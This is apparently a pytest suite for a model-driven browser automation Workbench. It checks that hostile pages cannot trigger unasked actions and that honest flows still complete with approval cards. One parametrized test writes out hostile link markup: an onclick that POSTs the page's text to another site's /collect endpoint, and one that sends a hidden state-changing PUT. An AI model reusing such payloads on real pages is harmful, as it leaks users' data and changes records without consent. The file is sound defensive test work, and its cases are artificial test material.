"""Nothing acts unasked, whatever a control is called; what somebody asked for is done with one card at the most.

Every attack each time, and a sixth of the honest twins; all of them with `TEJUN_TEST_WHOLE=1`.
"""

from collections.abc import Callable

import pytest

from studio.domain.actions.action import Click, Navigate
from studio.domain.events.events import ApprovalRequested, Event, RunStatus
from studio.domain.flows.flow import Flow, FlowStep
from studio.domain.page.target import Candidate, Family, Target
from studio.engine.runs.bus import EventBus
from studio.engine.runs.reports import RunOptions
from studio.engine.workbench import Workbench
from tests.fakes import ScriptedModel, Sites
from tests.hostile.sample import sampled
from tests.hostile.stage import Case, Stage
from tests.hostile.unasked import honest_transfer, honest_unasked, rewritten_cases, unasked_cases
from tests.hostile.web import Origin
from tests.memory_library import MemoryLibrary

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

Record = Callable[[str, object], None]


@pytest.mark.parametrize("case", unasked_cases(), ids=lambda case: case.slug)
async def test_nothing_acts_unasked(case: Case, stage: Stage, record_property: Record) -> None:
    played = await stage.play(case)
    record_property("hostile", played.figures)
    assert played.breaches == (), played
    assert played.status is not RunStatus.DONE or case.is_reached(stage.web), played


TWINS = sampled(honest_unasked(), [case.slug for case in honest_unasked()], 6)


@pytest.mark.parametrize("case", TWINS, ids=lambda case: case.slug)
async def test_what_was_asked_for_is_done(case: Case, stage: Stage) -> None:
    played = await stage.play(case)
    assert len(played.cards) == len(case.expected), played
    assert case.is_reached(stage.web), played


@pytest.mark.parametrize("case", rewritten_cases(), ids=lambda case: case.slug)
async def test_a_card_shows_what_the_page_does_not(case: Case, stage: Stage) -> None:
    played = await stage.play(case)
    assert played.cards, played
    assert played.breaches == (), played


async def test_an_honest_form_is_asked_about_once(stage: Stage) -> None:
    played = await stage.play(honest_transfer())
    assert (len(played.cards), played.changes) == (1, 1), played
    assert played.breaches == (), played


@pytest.mark.parametrize(
    ("name", "today"),
    [
        ("the same link", "<a href=/requests/12>詳細を見る</a>"),
        ("r01 leads to a deed", "<a href=/requests/12/approve>詳細を見る</a>"),
        ("r05 tells another site", "<a href=/requests/12 onclick=\"fetch('{other port}/collect',{method:'POST',mode:"
         "'no-cors',body:document.body.innerText})\">詳細を見る</a>"),
        ("r06 changes a state", "<a href=/requests/12 onclick=\"fetch('/api/entries/5/status',{method:'PUT',keepalive:true})"
         "\">詳細を見る</a>"),
    ],
)  # fmt: skip
async def test_a_flow_that_followed_a_link_does_nothing_else_through_it(
    stage: Stage, name: str, today: str
) -> None:
    web = stage.web
    web.start_over()
    web.put("/page", f"<title>申請</title><h1>申請</h1>{today}")
    web.changing = frozenset({"/requests/12/approve"})
    link = Target(
        role="link",
        name="詳細を見る",
        candidates=(Candidate(family=Family.ROLE, value="詳細を見る", role="link", score=20),),
    )
    own = web.urls[Origin.OWN]
    steps = (
        FlowStep(item="開く", action=Navigate(url=f"{own}/page"), sent=()),
        FlowStep(item="詳細を見る", action=Click(target=link), sent=()),
    )
    flow = Flow(name="詳細", origins=(own,), steps=steps)
    bus = EventBus()
    cards: list[Event] = []
    bus.subscribe(
        lambda event: cards.append(event) if isinstance(event, ApprovalRequested) else None
    )
    workbench = Workbench(
        browser=stage.browser,
        model=ScriptedModel(),
        store=MemoryLibrary(),
        exporters={},
        sites=Sites(),
        bus=bus,
    )
    await workbench.replay(flow, options=RunOptions(is_attended=False))
    assert web.changes() == []
    assert web.foreign() == []
    if name == "the same link":
        assert cards == []
        assert any(hit.page == "/requests/12" for hit in web.hits)
